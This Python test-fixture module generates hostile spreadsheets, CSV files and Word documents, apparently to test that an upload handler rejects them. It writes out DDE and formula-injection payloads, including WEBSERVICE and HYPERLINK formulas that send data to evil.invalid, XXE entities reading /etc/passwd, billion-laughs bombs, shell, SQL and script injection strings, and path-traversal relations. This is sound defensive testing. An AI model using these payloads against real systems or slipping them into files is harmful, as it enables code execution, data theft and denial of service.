"""Tables that mean harm: workbooks and CSV around the very columns that a door asks for.

A `Seed` gives the heads and one good row of the door, so that a hostile file is refused for what is
hostile in it, or taken with its text as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape

from tests.attacks.hostile_zips import TRICKS, pack

_MIB = 1024 * 1024
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


@dataclass(frozen=True)
class Seed:
    """What a door takes: heads, one good row, and which of its cells takes any text."""

    heads: tuple[str, ...] = ("甲", "乙", "丙")
    row: tuple[str, ...] = ("1", "2", "3")
    free: int = 2

    def with_cell(self, text: str) -> list[str]:
        cells = list(self.row)
        cells[self.free] = text
        return cells


Make = Callable[[Seed], bytes]

# What a spreadsheet runs when it is typed, and what else is dangerous only to who believes text.
FORMULAS = {
    "DDE call": "=cmd|' /C calc'!A0",
    "DDE by sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "hyperlink formula": '=HYPERLINK("http://evil.invalid/?"&A1,"点这里")',
    "web service formula": '=WEBSERVICE("http://evil.invalid/"&A2)',
    "full-width formula": "＝1+1",
    "full-width at": "＠SUM(1)",
    "formula after a blank": "  =1+1",
    "formula after a zero width space": "\u200b=1+1",
    "formula after a byte order mark": "\ufeff=1+1",
    "script element": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "template expression": "{{ 7*7 }}{% raw %}${7*7}",
    "SQL": "'; DROP TABLE person; --",
    "shell": "$(touch /tmp/evil)`id`",
    "format string": "%s%n%x{0}{__class__}",
    "direction override": "甲\u202eexe.pdf\u2066乙",
    "joined emoji": "👩‍👩‍👧‍👦" * 50,
    "combining marks": "e" + "\u0301" * 4000,
    "typst code": '#read("/etc/passwd") $x$ @ref <label>',
}
QUOTED = {"formula after TAB": "\t=1+1", "formula after CR": "\r=1+1", "formula after LF": "\n=1+1"}


def cells(values: list[str]) -> str:
    return "".join(
        f'<c t="inlineStr"><is><t xml:space="preserve">{escape(v)}</t></is></c>' for v in values
    )


def sheet(rows: str, before: str = "", after: str = "", top: str = _HEAD) -> bytes:
    return f"{top}<worksheet {_S} {_R}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>".encode()


def good_rows(seed: Seed, row: list[str] | None = None) -> str:
    return f"<row>{cells(list(seed.heads))}</row><row>{cells(row or list(seed.row))}</row>"


def workbook(page: bytes, more: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """The members of a whole workbook of one sheet, which stands last."""
    types = (
        f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPE}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_TYPE}.sharedStrings+xml"/></Types>'
    )
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    found = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": f'{_HEAD}{rels}<Relationship Id="r1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode(),
        "xl/workbook.xml": f'{_HEAD}<workbook {_S} {_R}><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
        "xl/_rels/workbook.xml.rels": (
            f'{_HEAD}{rels}<Relationship Id="r1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="r2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ).encode(),
        "xl/sharedStrings.xml": f"{_HEAD}<sst {_S}/>".encode(),
    }  # fmt: skip
    return found | (more or {}) | {"xl/worksheets/sheet1.xml": page}


def good(seed: Seed) -> dict[str, bytes]:
    return workbook(sheet(good_rows(seed)))


def changed(path: str, old: bytes, new: bytes) -> Make:
    """A good workbook with one part rewritten; `old` must be there."""

    def make(seed: Seed) -> bytes:
        members = good(seed)
        assert old in members[path], (path, old)
        return pack(members | {path: members[path].replace(old, new)})

    return make


def added(path: str, data: bytes) -> Make:
    return lambda seed: pack(workbook(sheet(good_rows(seed)), {path: data}))


def page(rows: str = "", before: str = "", after: str = "", top: str = _HEAD) -> Make:
    """A good sheet with more rows and parts."""
    return lambda seed: pack(workbook(sheet(good_rows(seed) + rows, before, after, top)))


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 9}">' for n in range(10))


def _entity(path: str, doctype: str, use: bytes = b"&l9;") -> Make:
    def make(seed: Seed) -> bytes:
        members = good(seed)
        text = members[path].replace(_HEAD.encode(), f"{_HEAD}<!DOCTYPE x [{doctype}]>".encode(), 1)
        if b"</t>" in text:
            text = text.replace(b"</t>", use + b"</t>")
        return pack(members | {path: text})

    return make


def _strings(count: int) -> Make:
    """So many shared strings, each of them short."""
    body = f"{_HEAD}<sst {_S}>{'<si><t>abcdefg</t></si>' * count}</sst>".encode()
    return lambda seed: pack(workbook(sheet(good_rows(seed)), {"xl/sharedStrings.xml": body}))


def _utf16(seed: Seed) -> bytes:
    text = sheet(good_rows(seed)).decode().replace('encoding="UTF-8"?>', f'encoding="UTF-16"?><!DOCTYPE x [{_LAUGHS}]>').replace("</t>", "&l9;</t>")  # fmt: skip
    return pack(workbook(text.encode("utf-16")))


def _formula(inside: str) -> Make:
    """A real formula element in the free cell."""

    def make(seed: Seed) -> bytes:
        row = cells(list(seed.row)[: seed.free]) + f"<c>{inside}</c>" + cells(list(seed.row)[seed.free + 1 :])  # fmt: skip
        return pack(workbook(sheet(f"<row>{cells(list(seed.heads))}</row><row>{row}</row>")))

    return make


_LINK = f'{_HEAD}<externalLink {_S} {_R}><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'.encode()  # fmt: skip
_BOOK = f'{_HEAD}<externalLink {_S} {_R}><externalBook r:id="r1"/></externalLink>'.encode()
_XXE = '<!ENTITY l9 SYSTEM "file:///etc/passwd">'
_WEB = '<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;<!ENTITY l9 "x">'
_SHEET = "xl/worksheets/sheet1.xml"
_TYPES = "[Content_Types].xml"

# name -> maker; a name in PLAIN may be taken, as text and values alone
WORKBOOKS: dict[str, Make] = {
    "billion laughs in the sheet": _entity(_SHEET, _LAUGHS),
    "billion laughs in the strings": _entity("xl/sharedStrings.xml", _LAUGHS),
    "billion laughs in the workbook": _entity("xl/workbook.xml", _LAUGHS),
    "billion laughs in the content types": _entity(_TYPES, _LAUGHS),
    "billion laughs in the relations": _entity("xl/_rels/workbook.xml.rels", _LAUGHS),
    "billion laughs in UTF-16": _utf16,
    "quadratic entity": _entity(_SHEET, f'<!ENTITY l9 "{"a" * 50_000}">', b"&l9;" * 500),
    "external entity of a file": _entity(_SHEET, _XXE),
    "external entity of the network": _entity(_SHEET, _WEB),
    "external entity in the strings": _entity("xl/sharedStrings.xml", _XXE),
    "a million shared strings": _strings(1_000_000),
    "huge declared dimension": page(before='<dimension ref="A1:XFD1048576"/>'),
    "cell in the last row": page('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    "row with number 10^9": page('<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>'),
    "row with a negative number": page('<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    "cell in column XFD": page('<row r="3"><c r="XFD3"><v>1</v></c></row>'),
    "cell in column ZZZZZZ": page('<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row>'),
    "400 000 empty rows": page("<row/>" * 400_000),
    "300 000 rows": page("<row><c><v>1</v></c></row>" * 300_000),
    "whole sheet merged often": page(after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 9000 + "</mergeCells>"),
    "hidden columns without end": page(before='<cols><col min="1" max="99999" hidden="1"/></cols>'),
    "xml 50 000 deep": page("<row><c><is>" + "<r>" * 50_000 + "</r>" * 50_000 + "</is></c></row>"),
    "attribute of 5 MiB": page(f'<row spans="{"1:1 " * (5 * _MIB // 4)}"/>'),
    "cell of 9 million characters": page(f"<row>{cells(['雅' * 3_000_000])}</row>"),
    "macro project": added("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),
    "macro project under another name": changed(_TYPES, b"</Types>", b'<Default Extension="xyz" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
    "xlsm renamed": changed(_TYPES, f"{_TYPE}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "xlsm renamed, type escaped": changed(_TYPES, f"{_TYPE}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"),
    "macro sheet of Excel 4": added("xl/macrosheets/sheet1.xml", sheet("<row/>")),
    "ActiveX control": added("xl/activeX/activeX1.bin", b"\x00" * 99),
    "DDE link": added("xl/externalLinks/externalLink1.xml", _LINK),
    "link to another workbook": added("xl/externalLinks/externalLink1.xml", _BOOK),
    "binary workbook": changed(_TYPES, f"{_TYPE}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "formula without a result": _formula("<f>cmd|' /C calc'!A0</f>"),
    "formula with a result": _formula("<f>WEBSERVICE(\"http://evil.invalid\")</f><v>3</v>"),
    "number over the exact": _formula("<v>12345678901234567890</v>"),
    "number 1e308": _formula("<v>1e308</v>"),
    "number NaN": _formula("<v>NaN</v>"),
    "string number that is not there": page('<row><c t="s"><v>999999</v></c></row>'),
    "negative string number": page('<row><c t="s"><v>-1</v></c></row>'),
    "cell that says error": page('<row><c t="e"><v>#REF!</v></c></row>'),
    "style that is not there": page('<row><c s="99999"><v>1</v></c></row>'),
    "date beyond time": page('<row><c t="d"><v>99999-99-99T99:99:99</v></c></row>'),
    "sheet outside the archive": changed("xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"../../../../etc/passwd"),
    "sheet on the network": changed("xl/_rels/workbook.xml.rels", b'Target="worksheets/sheet1.xml"', b'Target="http://evil.invalid/s.xml" TargetMode="External"'),
    "sheet that is the workbook": changed("xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"workbook.xml"),
    "2000 sheets on one part": changed("xl/workbook.xml", b"</sheets>", b"".join(b'<sheet name="s%d" sheetId="%d" r:id="r1"/>' % (n, n) for n in range(2, 2000)) + b"</sheets>"),
    "workbook without sheets": changed("xl/workbook.xml", b'<sheet name="Sheet1" sheetId="1" r:id="r1"/>', b""),
    "sheet that is no xml": lambda seed: pack(workbook(b"\x00\xff" * 5000)),
    "sheet that is empty": lambda seed: pack(workbook(b"")),
    "document type of another root": lambda seed: pack({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<html><script>alert(1)</script></html>"}),
}  # fmt: skip
PLAIN_BOOKS = {
    "huge declared dimension", "hidden columns without end", "formula with a result", "link to another workbook",
    "style that is not there", "2000 sheets on one part", "number 1e308", "whole sheet merged often",
}  # fmt: skip


# What only a reader of cells trips over: kept unread as a document, they are bytes.
UNREAD_BOOKS = PLAIN_BOOKS | {
    "a million shared strings", "cell in the last row", "row with number 10^9", "row with a negative number",
    "cell in column XFD", "cell in column ZZZZZZ", "400 000 empty rows", "300 000 rows", "xml 50 000 deep",
    "attribute of 5 MiB", "cell of 9 million characters", "formula without a result", "number over the exact",
    "number NaN", "string number that is not there", "negative string number", "cell that says error",
    "date beyond time", "sheet outside the archive", "sheet that is the workbook", "workbook without sheets",
    "sheet that is no xml", "sheet that is empty", "document type of another root",
}  # fmt: skip


def table_csv(
    rows: list[list[str]], encoding: str = "utf-8", quoting: int = csv.QUOTE_MINIMAL
) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=quoting).writerows(rows)  # type: ignore[arg-type]
    return out.getvalue().encode(encoding)


def _cell(text: str) -> Make:
    return lambda seed: table_csv([list(seed.heads), seed.with_cell(text)])


def _bytes(change: Callable[[bytes], bytes]) -> Make:
    return lambda seed: change(table_csv([list(seed.heads), list(seed.row)]))


def _encoded(encoding: str, before: bytes = b"") -> Make:
    return lambda seed: before + table_csv([list(seed.heads), list(seed.row)], encoding)


def _front(data: bytes) -> Make:
    return _bytes(lambda whole: data + whole)


CSVS: dict[str, Make] = {
    "NUL in a cell": _bytes(lambda d: d[:-4] + b"\x00" + d[-4:]),
    "a million columns": lambda seed: table_csv([list(seed.heads), list(seed.row)]) + b"," * 1_000_000 + b"\r\n",
    "a million heads": lambda seed: ",".join([*seed.heads, *("x" * 1_000_000)]).encode(),
    "field of 50 MB": _cell("a" * 50_000_000),
    "field of 15 MB": _cell("a" * 15_000_000),
    "quoted field of 15 MB": _bytes(lambda d: d + b'"' + b"a" * 15_000_000),
    "field of 200 000 characters": _cell("雅" * 200_000),
    "a million lines": lambda seed: table_csv([list(seed.heads), list(seed.row)]) + b"a,b,c\r\n" * 1_000_000,
    "two million empty lines": _bytes(lambda d: d + b"\n" * 2_000_000),
    "400 000 commas a line": _bytes(lambda d: d + (b"," * 499 + b"\n") * 5000),
    "quote never closed": _bytes(lambda d: d + b'"never closed\r\n' * 9),
    "text after a quote": _bytes(lambda d: d + b'"a"b,"c\r\n'),
    "UTF-16 cut in a character": lambda seed: table_csv([list(seed.heads), list(seed.row)], "utf-16")[:-1],
    "UTF-16 without a mark": _encoded("utf-16-be"),
    "UTF-16 with a lone surrogate": lambda seed: b"\xff\xfe" + table_csv([list(seed.heads)], "utf-16-le") + b"\x00\xd8",
    "UTF-32": _encoded("utf-32"),
    "UTF-7": lambda seed: table_csv([list(seed.heads), seed.with_cell("+ADw-script+AD4-")], "utf-7"),
    "EBCDIC": lambda seed: table_csv([["a", "b"], ["c", "d"]], "cp500"),
    "GB18030 broken": lambda seed: table_csv([list(seed.heads), list(seed.row)], "gb18030") + b"\x81\xff\xff\x30\xfe",
    "GB18030 private use": lambda seed: table_csv([list(seed.heads), seed.with_cell("\ue000\ue001")], "gb18030"),
    "UTF-8 overlong": _bytes(lambda d: d + b"\xc0\xaf\xe0\x80\xaf"),
    "UTF-8 surrogates": _bytes(lambda d: d + b"\xed\xa0\x80\xed\xb0\x80"),
    "UTF-8 cut": _bytes(lambda d: d.rstrip() + "雅".encode()[:2]),
    "two byte order marks": _front(b"\xef\xbb\xbf\xef\xbb\xbf"),
    "lone CR": _bytes(lambda d: d.replace(b"\r\n", b"\r")),
    "mixed line ends": _bytes(lambda d: d.replace(b"\r\n", b"\n\r\r\n")),
    "SYLK": _front(b"ID;PWXL;N;E\r\nC;X1;Y1;K\"=cmd|' /C calc'!A0\"\r\n"),
    "separator that lies": _front(b"sep=\x07\r\n"),
    "heads twice": lambda seed: table_csv([[*seed.heads, *seed.heads], [*seed.row, *seed.row]]),
    "value under no head": lambda seed: table_csv([list(seed.heads), [*seed.row, "", "x"]]),
    "terminal escapes": _cell("\x1b[2J\x1b]0;evil\x07"),
    "control characters": _cell("".join(map(chr, range(1, 9)))),
    **{name: _cell(text) for name, text in FORMULAS.items()},
    **{f"{name}, quoted": _cell(text) for name, text in QUOTED.items()},
    "HTML as CSV": _front(b"<html><body><table><tr><td>"),
    "XML as CSV": _front(b"<?xml version='1.0'?><Workbook/>"),
}  # fmt: skip
PLAIN_CSVS = {
    *FORMULAS, *(f"{name}, quoted" for name in QUOTED), "UTF-7", "two byte order marks", "lone CR", "mixed line ends",
    "terminal escapes", "control characters", "separator that lies", "field of 200 000 characters",
    "two million empty lines", "field of 15 MB", "SYLK", "a million columns",
    # an encoding that cannot be told from another, or a mark that a reader may put in its place
    "UTF-8 cut", "UTF-16 without a mark", "GB18030 private use", "GB18030 broken", "UTF-8 overlong", "UTF-8 surrogates",
    "400 000 commas a line",
}  # fmt: skip

CSVS_GOOD: Make = _encoded("utf-8-sig")

_WORD = {
    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": b"<Relationships/>",
    "word/document.xml": b"<w:document><w:body><w:p/></w:body></w:document>",
}


def _word(more: dict[str, bytes]) -> Make:
    return lambda seed: pack({**_WORD, **more})


DOCUMENTS: dict[str, Make] = {
    "macro project": _word({"word/vbaProject.bin": b"x"}),
    "macro data": _word({"word/vbaData.xml": b"<x/>"}),
    "docm renamed": _word({"[Content_Types].xml": b'<Types x="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}),
    "template on the network": _word({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'}),
    "DDE field": _word({"word/document.xml": b"<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:document>"}),
    "ActiveX control": _word({"word/activeX/activeX1.xml": b"<x/>"}),
    "billion laughs": _word({"word/document.xml": f"<!DOCTYPE x [{_LAUGHS}]><x>&l9;</x>".encode()}),
    "external entity": _word({"word/document.xml": f"<!DOCTYPE x [{_XXE}]><x>&l9;</x>".encode()}),
    "program inside": _word({"word/embeddings/setup.exe": b"MZ" + bytes(99)}),
}  # fmt: skip
GOOD_DOCUMENT: Make = _word({})


def tricked(base: Callable[[Seed], dict[str, bytes]]) -> dict[str, Make]:
    """Every trick of a container around these members."""
    return {
        name: (lambda seed, trick=trick: trick(base(seed)))  # type: ignore[misc]
        for name, trick in TRICKS.items()
    }


def word_members(seed: Seed) -> dict[str, bytes]:
    return dict(_WORD)
